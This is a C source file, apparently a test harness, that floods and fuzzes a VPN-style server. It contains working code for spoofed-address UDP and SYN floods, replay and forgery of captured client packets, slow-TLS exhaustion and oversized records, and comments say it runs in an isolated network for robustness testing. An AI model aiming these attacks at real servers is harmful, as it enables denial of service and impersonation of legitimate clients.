/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * What strangers may send to a server: one kind of attack a call. Packets with foreign source
 * addresses are written to a raw socket, hence root; run.sh gives it a network of its own.
 *
 * usage: attack KIND SERVER PORT COUNT RATE CLIENT FILE
 *   COUNT packets or connections, RATE of them a second; CLIENT is the address of the client that
 *   must not suffer; FILE holds packets of that client, written by `attack capture`
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum {
	PAYLOAD_MAX = 1472, /* of one Ethernet frame */
	UDP_MAX = 65507,
	CAPTURED_MAX = 4096,
	OP_CONTROL_V1 = 4,
	OP_ACK_V1 = 5,
	OP_RESET_V2 = 7,
	OP_RESET_SERVER_V2 = 8,
	OP_RESET_V3 = 10,
	OP_WKC_V1 = 11,
	RESET_LEN = 14,
	SERVER_RESET_LEN = 26, /* without any wrap */
	ACK_LEN = 22,
	CONTROL_HEADER_LEN = 26, /* with one acknowledgement */
	TCP_HOLD_SEC = 3,
	DRIBBLES = 60,
	HELLO_LARGE = 128 * 1024, /* OpenSSL's limit */
};

struct packet {
	uint16_t sport, len;
	uint8_t bytes[PAYLOAD_MAX];
};

struct attack {
	struct sockaddr_in server;
	struct in_addr client;
	unsigned int count, rate;
	struct packet *captured;
	unsigned int n_captured;
	int raw;
	uint64_t started_ms;
	unsigned int sent;
};

/* ---- small things -------------------------------------------------------------------------- */

static void die(const char *what)
{
	fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
	exit(2);
}

static uint64_t now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

static void fill(void *bytes, size_t len)
{
	if (getrandom(bytes, len, 0) != (ssize_t)len)
		die("getrandom");
}

static uint32_t draw(uint32_t limit)
{
	uint32_t r;

	fill(&r, sizeof(r));
	return r % limit;
}

/* Not faster than the rate. */
static void pace(struct attack *a)
{
	uint64_t due = a->started_ms + (uint64_t)a->sent++ * 1000 / a->rate;

	while (now_ms() < due)
		usleep(500);
}

static struct in_addr stranger(void)
{
	return (struct in_addr){.s_addr = htonl(0x0a400000u + draw(1u << 22))}; /* 10.64.0.0/10 */
}

/* ---- sending ------------------------------------------------------------------------------- */

static struct iphdr ip_header(const struct attack *a, struct in_addr from, uint8_t protocol)
{
	return (struct iphdr){
		.version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = protocol,
		.saddr = from.s_addr,
		.daddr = a->server.sin_addr.s_addr,
	};
}

static void send_from(struct attack *a, struct in_addr from, uint16_t sport, const void *bytes,
		      size_t len)
{
	uint8_t frame[sizeof(struct iphdr) + sizeof(struct udphdr) + PAYLOAD_MAX];
	struct iphdr ip = ip_header(a, from, IPPROTO_UDP);
	struct udphdr udp = {
		.source = htons(sport),
		.dest = a->server.sin_port,
		.len = htons((uint16_t)(sizeof(udp) + len)),
	};

	memcpy(frame, &ip, sizeof(ip));
	memcpy(frame + sizeof(ip), &udp, sizeof(udp));
	memcpy(frame + sizeof(ip) + sizeof(udp), bytes, len);
	pace(a);
	(void)sendto(a->raw, frame, sizeof(ip) + sizeof(udp) + len, 0,
		     (const struct sockaddr *)&a->server, sizeof(a->server));
}

static void send_spoofed(struct attack *a, const void *bytes, size_t len)
{
	send_from(a, stranger(), (uint16_t)(1024 + draw(60000)), bytes, len);
}

static void make_reset(uint8_t packet[RESET_LEN], unsigned int opcode)
{
	memset(packet, 0, RESET_LEN);
	packet[0] = (uint8_t)(opcode << 3);
	fill(packet + 1, 8);
}

/* ---- packets of the real client ------------------------------------------------------------ */

static void capture(const char *path, unsigned int seconds, uint16_t port)
{
	int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_ALL));
	FILE *out = fopen(path, "we");
	uint64_t end = now_ms() + seconds * 1000ull;
	uint8_t buf[2048];

	if (fd < 0 || !out)
		die(path);
	while (now_ms() < end) {
		struct pollfd p = {.fd = fd, .events = POLLIN};
		struct udphdr udp;
		struct packet packet;
		ssize_t n = poll(&p, 1, 100) > 0 ? recv(fd, buf, sizeof(buf), 0) : 0;

		if (n < 28 || buf[0] != 0x45 || buf[9] != IPPROTO_UDP)
			continue;
		memcpy(&udp, buf + 20, sizeof(udp));
		if (ntohs(udp.dest) != port || n - 28 > PAYLOAD_MAX)
			continue;
		packet.sport = ntohs(udp.source);
		packet.len = (uint16_t)(n - 28);
		memcpy(packet.bytes, buf + 28, packet.len);
		fwrite(&packet, sizeof(packet), 1, out);
		fflush(out);
	}
	fclose(out);
	close(fd);
}

static void load_captured(struct attack *a, const char *path)
{
	FILE *in = fopen(path, "re");

	a->captured = calloc(CAPTURED_MAX, sizeof(*a->captured));
	if (!in || !a->captured)
		die(path);
	a->n_captured = (unsigned int)fread(a->captured, sizeof(*a->captured), CAPTURED_MAX, in);
	fclose(in);
}

static const struct packet *some_captured(const struct attack *a)
{
	if (!a->n_captured) {
		fprintf(stderr, "attack: nothing was captured\n");
		exit(2);
	}
	return &a->captured[draw(a->n_captured)];
}

/* ---- datagrams ----------------------------------------------------------------------------- */

static void resets(struct attack *a)
{
	uint8_t packet[RESET_LEN];

	for (unsigned int i = 0; i < a->count; i++) {
		make_reset(packet, OP_RESET_V2);
		send_spoofed(a, packet, sizeof(packet));
	}
}

/* Every first byte and every size, from strangers and as if from the client. */
static void garbage(struct attack *a)
{
	uint8_t packet[PAYLOAD_MAX];

	for (unsigned int i = 0; i < a->count; i++) {
		size_t len = (i / 256) * 7 % (PAYLOAD_MAX + 1);

		fill(packet, sizeof(packet));
		packet[0] = (uint8_t)i;
		if (i % 3 == 0 && a->n_captured && (packet[0] >> 3 == 6 || packet[0] >> 3 == 9))
			send_from(a, a->client, a->captured[0].sport, packet, len);
		else
			send_spoofed(a, packet, len);
	}
}

static void oversized(struct attack *a)
{
	static uint8_t packet[UDP_MAX];
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	fill(packet, sizeof(packet));
	for (unsigned int i = 0; i < a->count; i++) {
		packet[0] = (uint8_t)i;
		pace(a);
		(void)sendto(fd, packet, 1500 + draw(UDP_MAX - 1500), 0,
			     (const struct sockaddr *)&a->server, sizeof(a->server));
	}
	close(fd);
}

/* As it was, from the client's address and from others. */
static void replay(struct attack *a)
{
	for (unsigned int i = 0; i < a->count; i++) {
		const struct packet *p = some_captured(a);

		if (i % 2)
			send_spoofed(a, p->bytes, p->len);
		else
			send_from(a, a->client, p->sport, p->bytes, p->len);
	}
}

/* One byte differs, or the end is missing. */
static void forge(struct attack *a)
{
	for (unsigned int i = 0; i < a->count; i++) {
		struct packet p = *some_captured(a);

		if (p.len < 2)
			continue;
		if (i % 8 == 0)
			p.len = (uint16_t)(1 + draw(p.len - 1u));
		else
			p.bytes[draw(p.len)] ^= (uint8_t)(1u + draw(255));
		send_from(a, a->client, p.sport, p.bytes, p.len);
	}
}

/* Wrapped client keys: of the client with a byte changed, and made up, with all kinds of lengths.
 */
static void wkc(struct attack *a)
{
	for (unsigned int i = 0; i < a->count; i++) {
		struct packet p = *some_captured(a);
		unsigned int opcode = p.bytes[0] >> 3;

		if (i % 2 && (opcode == OP_RESET_V3 || opcode == OP_WKC_V1)) {
			p.bytes[54 + draw(p.len - 54u)] ^= (uint8_t)(1u + draw(255));
		} else {
			p.len = (uint16_t)(1 + draw(PAYLOAD_MAX));
			fill(p.bytes, sizeof(p.bytes));
			p.bytes[0] = (uint8_t)((i % 4 < 2 ? OP_RESET_V3 : OP_WKC_V1) << 3);
			if (p.len > 56 && i % 3) { /* a length that fits */
				uint16_t len = htons((uint16_t)(p.len - 54));

				memcpy(p.bytes + p.len - 2, &len, sizeof(len));
			}
		}
		send_spoofed(a, p.bytes, p.len);
	}
}

/* ---- sessions without a wrap which begin well ---- */

/* A client which got the server's first packet and acknowledged it. */
struct begun {
	int fd; /* -1: no answer came */
	bool tcp;
	uint8_t own_id[8], server_id[8];
	uint32_t next_id;
};

static void begun_send(const struct begun *b, const uint8_t *packet, size_t len)
{
	uint8_t record[2 + PAYLOAD_MAX] = {(uint8_t)(len >> 8), (uint8_t)len};

	memcpy(record + 2, packet, len);
	(void)send(b->fd, record + (b->tcp ? 0 : 2), len + (b->tcp ? 2 : 0),
		   MSG_NOSIGNAL | MSG_DONTWAIT);
}

/* @bytes of TLS as the next control message; the server's first one is acknowledged each time */
static void begun_control(struct attack *a, struct begun *b, const uint8_t *bytes, size_t len)
{
	uint8_t packet[PAYLOAD_MAX] = {OP_CONTROL_V1 << 3};
	const uint32_t id = htonl(b->next_id++);

	memcpy(packet + 1, b->own_id, 8);
	packet[9] = 1;
	memcpy(packet + 14, b->server_id, 8);
	memcpy(packet + 22, &id, sizeof(id));
	memcpy(packet + CONTROL_HEADER_LEN, bytes, len);
	pace(a);
	begun_send(b, packet, CONTROL_HEADER_LEN + len);
}

static bool begun_open(struct attack *a, struct begun *b, bool tcp)
{
	const int type = tcp ? SOCK_STREAM : SOCK_DGRAM;
	uint8_t reset[RESET_LEN], in[2048];
	uint8_t ack[ACK_LEN] = {
		[0] = OP_ACK_V1 << 3, [9] = 1}; /* of message 0: proves the address */
	const uint8_t *answer = in + (tcp ? 2 : 0);
	struct pollfd p;
	ssize_t n;

	*b = (struct begun){
		.fd = socket(AF_INET, type | SOCK_CLOEXEC, 0), .tcp = tcp, .next_id = 1};
	make_reset(reset, OP_RESET_V2);
	memcpy(b->own_id, reset + 1, sizeof(b->own_id));
	pace(a);
	if (b->fd < 0 || connect(b->fd, (const struct sockaddr *)&a->server, sizeof(a->server)))
		die("socket");
	begun_send(b, reset, sizeof(reset));
	p = (struct pollfd){.fd = b->fd, .events = POLLIN};
	n = poll(&p, 1, 200) > 0 ? recv(b->fd, in, sizeof(in), 0) - (answer - in) : 0;
	if (n < SERVER_RESET_LEN || answer[0] >> 3 != OP_RESET_SERVER_V2) {
		close(b->fd);
		b->fd = -1;
		return false;
	}
	memcpy(b->server_id, answer + 1, sizeof(b->server_id));
	memcpy(ack + 1, b->own_id, 8);
	memcpy(ack + 14, b->server_id, 8);
	begun_send(b, ack, sizeof(ack));
	return true;
}

static struct begun *begun_open_all(struct attack *a, bool tcp)
{
	struct begun *all = calloc(a->count, sizeof(*all));
	unsigned int good = 0;

	if (!all)
		die("memory");
	for (unsigned int i = 0; i < a->count; i++)
		good += begun_open(a, &all[i], tcp);
	printf("%u of %u sessions begun\n", good, a->count);
	return all;
}

static void begun_close_all(const struct attack *a, struct begun *all)
{
	for (unsigned int i = 0; i < a->count; i++)
		if (all[i].fd >= 0)
			close(all[i].fd);
	free(all);
}

/* Prove the address, then never go on: the server holds a session for each. */
static void stalled(struct attack *a)
{
	begun_close_all(a, begun_open_all(a, false));
}

/* A ClientHello of @len bytes in TLS records of full size; what is in it is never looked at, for
 * its end never comes. */
static uint8_t hello_byte(size_t at, size_t len)
{
	const uint8_t record[5] = {22, 3, 1, 0x40, 0},
		      head[4] = {1, (uint8_t)(len >> 16), (uint8_t)(len >> 8), (uint8_t)len};
	const size_t in_record = at % (sizeof(record) + 0x4000);

	if (in_record < sizeof(record))
		return record[in_record];
	return at < sizeof(record) + sizeof(head) ? head[at - sizeof(record)] : (uint8_t)at;
}

static void hello_part(struct attack *a, struct begun *b, size_t from, size_t n, size_t len)
{
	uint8_t part[PAYLOAD_MAX];

	for (size_t i = 0; i < n; i++)
		part[i] = hello_byte(from + i, len);
	if (b->fd >= 0)
		begun_control(a, b, part, n);
}

/* Slow TLS: two bytes of a ClientHello at a time, from all sessions in turn. */
static void hello_dribbled(struct attack *a, bool tcp)
{
	struct begun *all = begun_open_all(a, tcp);

	for (size_t at = 0; at < 2 * DRIBBLES; at += 2)
		for (unsigned int i = 0; i < a->count; i++)
			hello_part(a, &all[i], at, 2, 512);
	begun_close_all(a, all);
}

static void udp_dribbled(struct attack *a)
{
	hello_dribbled(a, false);
}

static void tcp_dribbled(struct attack *a)
{
	hello_dribbled(a, true);
}

/* As much of one ClientHello as a server will hold, from all sessions. */
static void hello_large(struct attack *a)
{
	struct begun *all = begun_open_all(a, false);

	for (size_t at = 0; at < HELLO_LARGE; at += 1200)
		for (unsigned int i = 0; i < a->count; i++)
			hello_part(a, &all[i], at, 1200, HELLO_LARGE);
	begun_close_all(a, all);
}

/* ---- connections --------------------------------------------------------------------------- */

static int tcp_connect(struct attack *a)
{
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	pace(a);
	if (fd < 0 || connect(fd, (const struct sockaddr *)&a->server, sizeof(a->server)))
		die("tcp connect");
	return fd;
}

static void tcp_silent(struct attack *a)
{
	for (unsigned int i = 0; i < a->count; i++)
		(void)tcp_connect(a);
	sleep(TCP_HOLD_SEC);
}

/* A good first packet, a byte at a time, and then half a record for ever. */
static void tcp_slow(struct attack *a)
{
	int *fds = calloc(a->count, sizeof(*fds));
	uint8_t record[2 + RESET_LEN + 3] = {0, RESET_LEN};

	if (!fds)
		die("memory");
	make_reset(record + 2, OP_RESET_V2);
	record[2 + RESET_LEN] = 4; /* of a record of 1024 bytes */
	for (unsigned int i = 0; i < a->count; i++)
		fds[i] = tcp_connect(a);
	for (size_t at = 0; at < sizeof(record); at++) {
		for (unsigned int i = 0; i < a->count; i++)
			(void)send(fds[i], record + at, 1, MSG_NOSIGNAL);
		usleep(TCP_HOLD_SEC * 1000000u / sizeof(record));
	}
	free(fds);
}

static uint16_t tcp_checksum(const struct attack *a, struct in_addr from, const struct tcphdr *tcp)
{
	struct {
		uint32_t from, to;
		uint16_t protocol, len;
		struct tcphdr tcp;
	} sum = {from.s_addr, a->server.sin_addr.s_addr, htons(IPPROTO_TCP), htons(sizeof(*tcp)),
		 *tcp};
	uint16_t words[sizeof(sum) / 2];
	uint32_t total = 0;

	memcpy(words, &sum, sizeof(sum));
	for (size_t i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		total += words[i];
	total = (total & 0xffff) + (total >> 16);
	return (uint16_t) ~((total & 0xffff) + (total >> 16));
}

/* The first packet of a connection and nothing after, from strangers. */
static void tcp_half_open(struct attack *a)
{
	for (unsigned int i = 0; i < a->count; i++) {
		struct in_addr from = stranger();
		struct iphdr ip = ip_header(a, from, IPPROTO_TCP);
		struct tcphdr tcp = {
			.source = htons((uint16_t)(1024 + draw(60000))),
			.dest = a->server.sin_port,
			.seq = draw(UINT32_MAX),
			.doff = sizeof(tcp) / 4,
			.syn = 1,
			.window = htons(65535),
		};
		uint8_t frame[sizeof(ip) + sizeof(tcp)];

		tcp.check = tcp_checksum(a, from, &tcp);
		memcpy(frame, &ip, sizeof(ip));
		memcpy(frame + sizeof(ip), &tcp, sizeof(tcp));
		pace(a);
		(void)sendto(a->raw, frame, sizeof(frame), 0, (const struct sockaddr *)&a->server,
			     sizeof(a->server));
	}
}

/* The largest record that a length can tell, never complete. */
static void tcp_large(struct attack *a)
{
	static uint8_t bytes[2 + UINT16_MAX];

	memset(bytes, 0xff, 2);
	bytes[2] = OP_RESET_V2 << 3;
	for (unsigned int i = 0; i < a->count; i++) {
		int fd = tcp_connect(a);

		bytes[0] = i % 2 ? 0xff : 0x06; /* as large as any, and as a server may allow */
		(void)send(fd, bytes, sizeof(bytes) - 1 - (i % 2 ? 0 : 0xf800), MSG_NOSIGNAL);
	}
	sleep(TCP_HOLD_SEC);
}

/* Lengths of 0, of too much, and packets of every kind in good records. */
static void tcp_garbage(struct attack *a)
{
	uint8_t bytes[2 + PAYLOAD_MAX];

	for (unsigned int i = 0; i < a->count; i++) {
		int fd = tcp_connect(a);
		size_t len = draw(PAYLOAD_MAX);

		fill(bytes, sizeof(bytes));
		if (i % 4 == 0)
			memset(bytes, 0, 2);
		else if (i % 4 == 1)
			memset(bytes, 0xff, 2);
		else if (i % 4 == 2) {
			bytes[0] = (uint8_t)(len >> 8);
			bytes[1] = (uint8_t)len;
			bytes[2] = (uint8_t)i;
		}
		(void)send(fd, bytes, 2 + len, MSG_NOSIGNAL);
		close(fd);
	}
}

/* ---- */

static const struct kind {
	const char *name;
	void (*run)(struct attack *a);
} kinds[] = {
	{"resets", resets},
	{"garbage", garbage},
	{"oversized", oversized},
	{"replay", replay},
	{"forge", forge},
	{"wkc", wkc},
	{"stalled", stalled},
	{"silent", tcp_silent},
	{"slow", tcp_slow},
	{"broken", tcp_garbage},
	{"half-open", tcp_half_open},
	{"large", tcp_large},
	{"dribbled-hello", udp_dribbled},
	{"large-hello", hello_large},
	{"dribbled-hello-tcp", tcp_dribbled},
};

int main(int argc, char **argv)
{
	struct attack a = {.server.sin_family = AF_INET};

	if (argc == 5 && strcmp(argv[1], "capture") == 0) {
		capture(argv[2], (unsigned int)atoi(argv[3]), (uint16_t)atoi(argv[4]));
		return 0;
	}
	if (argc != 8 || inet_pton(AF_INET, argv[2], &a.server.sin_addr) != 1 ||
	    inet_pton(AF_INET, argv[6], &a.client) != 1) {
		fprintf(stderr, "usage: attack KIND SERVER PORT COUNT RATE CLIENT FILE\n"
				"       attack capture FILE SECONDS PORT\n");
		return 2;
	}
	a.server.sin_port = htons((uint16_t)atoi(argv[3]));
	a.count = (unsigned int)atoi(argv[4]);
	a.rate = (unsigned int)atoi(argv[5]);
	a.raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	a.started_ms = now_ms();
	if (a.raw < 0 || a.rate == 0)
		die("raw socket");
	if (access(argv[7], R_OK) == 0)
		load_captured(&a, argv[7]);
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		if (strcmp(kinds[i].name, argv[1]) == 0) {
			kinds[i].run(&a);
			free(a.captured);
			return 0;
		}
	}
	fprintf(stderr, "attack: no kind %s\n", argv[1]);
	return 2;
}
